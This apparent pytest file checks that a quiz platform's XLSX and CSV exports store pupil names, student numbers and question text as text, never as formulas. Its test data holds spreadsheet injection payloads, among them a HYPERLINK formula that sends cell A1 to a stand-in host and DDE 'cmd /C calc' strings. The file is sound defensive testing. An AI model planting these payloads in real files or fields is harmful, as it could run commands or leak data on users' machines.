"""Spreadsheet formula injection (red-team finding, docs/security.md).

A pupil's display name or student number that starts with ``=``, ``+``, ``-``, ``@``,
TAB, CR or a full-width ``＝＋－＠`` must reach every spreadsheet the platform writes as
text, never as a formula: the teacher's school and class exports, the organizer's results
and participation tables, bank exports, and the class-list and bank templates. All of
them come from one writer (``question_bank/formats/spreadsheet.py``), and a test below
keeps it that way.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from quiz.accounts.models import Role
from quiz.banks.models import QuestionText
from quiz.edge.client import Actor
from quiz.extensions import db
from quiz.play import services as play
from quiz.schools import enrolling
from quiz.schools.models import SchoolStudent
from tests.factories import post_login
from tests.results.helpers import play_correct
from tests.schools.conftest import import_students, make_school, students_of, take_round

ROOT = Path(__file__).resolve().parents[2]
# Stored as they would be by older versions or direct imports; each one a formula if
# written as one. Student numbers hold at most 32 characters.
NAMES = [
    '=HYPERLINK("http://e.x/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["=1+1", "+7", "-7", "@A1", "＠A1", "＋1", "－1"]


def _no_formula(data: bytes) -> dict[str, list[tuple]]:
    """Every sheet's rows; fails if any cell of the workbook is a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
        sheets[sheet.title] = list(sheet.iter_rows(values_only=True))
    return sheets


def _values(sheets: dict[str, list[tuple]]) -> set:
    return {value for rows in sheets.values() for row in rows for value in row}


@pytest.fixture
def school(make, clock):
    """A class whose pupils have dangerous names and numbers, each with a result."""
    admin = make.user("root", roles=(Role.ADMIN,))
    world = make_school(make, clock, admin, "第一小学", teacher="teach1")
    contest, round_ = make.setup()
    import_students(world, clock, [(f"Pupil {i}", str(i)) for i in range(len(NAMES))])
    enrolling.enroll_class(Actor.of(world.teacher), world.school_class.id, contest.id, clock())
    pupils = students_of(world)
    numbers = {
        s.user_id: s
        for s in db.session.scalars(
            select(SchoolStudent).where(SchoolStudent.school_id == world.school.id)
        )
    }
    for pupil, name, number in zip(pupils, NAMES, NUMBERS, strict=True):
        pupil.display_name = name  # as an older version let people save it
        numbers[pupil.id].student_number = number
    db.session.commit()
    for pupil in pupils:
        take_round(pupil, round_, clock)
    db.session.commit()
    return world, contest, round_


def test_school_export_keeps_names_and_numbers_as_text(client, school):
    world, _contest, _round = school
    post_login(client, world.teacher.username)
    response = client.get(f"/schools/{world.school.id}/export.xlsx")
    assert response.status_code == 200
    values = _values(_no_formula(response.data))
    assert set(NAMES) <= values and set(NUMBERS) <= values  # kept exactly


def test_class_export_keeps_names_and_numbers_as_text(client, school):
    world, _contest, _round = school
    post_login(client, world.teacher.username)
    response = client.get(f"/classes/{world.school_class.id}/export.xlsx")
    assert response.status_code == 200
    values = _values(_no_formula(response.data))
    assert set(NAMES) <= values and set(NUMBERS) <= values


def test_results_and_participation_exports(client, make, clock):
    organizer = make.user("org", roles=(Role.ORGANIZER,))
    contest = make.contest(organizer=organizer)
    round_ = make.round(contest, make.bank())
    for name in NAMES:
        player = make.enrolled(contest, display_name="x")
        player.display_name = name
        attempt, _ = play.start_attempt(player, round_, "zh", clock())
        play_correct(attempt, player, 1, clock())
        play.finish_attempt(attempt, clock.advance(seconds=10))
    db.session.commit()
    post_login(client, organizer.username)
    response = client.get(f"/console/rounds/{round_.id}/results.xlsx")
    assert response.status_code == 200
    assert set(NAMES) <= _values(_no_formula(response.data))
    response = client.get(f"/console/rounds/{round_.id}/results.csv")
    table = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    cells = {cell for row in table for cell in row}
    assert {"'" + name for name in NAMES} <= cells  # CSV has no types: an apostrophe
    assert not cells & set(NAMES)
    response = client.get(f"/console/contests/{contest.id}/participation.xlsx")
    assert response.status_code == 200
    _no_formula(response.data)


def test_bank_export_and_templates(client, make):
    organizer = make.user("org", roles=(Role.ORGANIZER,))
    bank = make.bank()
    text = db.session.scalars(
        select(QuestionText).where(QuestionText.language == "zh").limit(1)
    ).one()
    text.text = "=1+1 是多少？"
    db.session.commit()
    post_login(client, organizer.username)
    response = client.get(f"/console/banks/{bank.id}/export?format=xlsx&language=zh")
    assert response.status_code == 200
    assert "=1+1 是多少？" in _values(_no_formula(response.data))
    for language in ("zh", "mn"):
        response = client.get(f"/console/banks/template/{language}?format=xlsx")
        assert response.status_code == 200
        _no_formula(response.data)
    teacher = make.user("teach", roles=(Role.TEACHER,))
    post_login(client, teacher.username)
    for language in ("zh", "mn"):
        response = client.get(f"/schools/roster-template/{language}.xlsx")
        assert response.status_code == 200
        _no_formula(response.data)


def test_one_spreadsheet_writer():
    """Only question_bank/formats/spreadsheet.py makes workbooks or CSV files."""
    writer = ROOT / "question_bank" / "formats" / "spreadsheet.py"
    found = []
    for package in ("quiz", "question_bank"):
        for path in (ROOT / package).rglob("*.py"):
            source = path.read_text(encoding="utf-8")
            if path != writer and re.search(r"\bWorkbook\(|csv\.writer\(|DictWriter\(", source):
                found.append(str(path.relative_to(ROOT)))
    assert found == []
